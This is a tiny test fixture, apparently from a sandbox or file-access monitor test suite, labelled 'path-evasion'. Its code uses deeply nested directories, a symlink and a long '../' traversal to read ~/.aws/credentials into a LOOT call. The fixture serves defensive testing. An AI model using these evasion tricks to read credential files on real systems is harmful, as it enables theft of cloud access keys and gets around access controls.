#: {"class": "path-evasion", "loader": "script", "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
d = "d" * 200; os.chdir(HOME + "/data")
for i in range(25): os.mkdir(d); os.chdir(d)
os.symlink(HOME + "/.aws", "s"); LOOT(open("s/credentials").read()); LOOT(open("../" * 27 + ".aws/credentials").read())
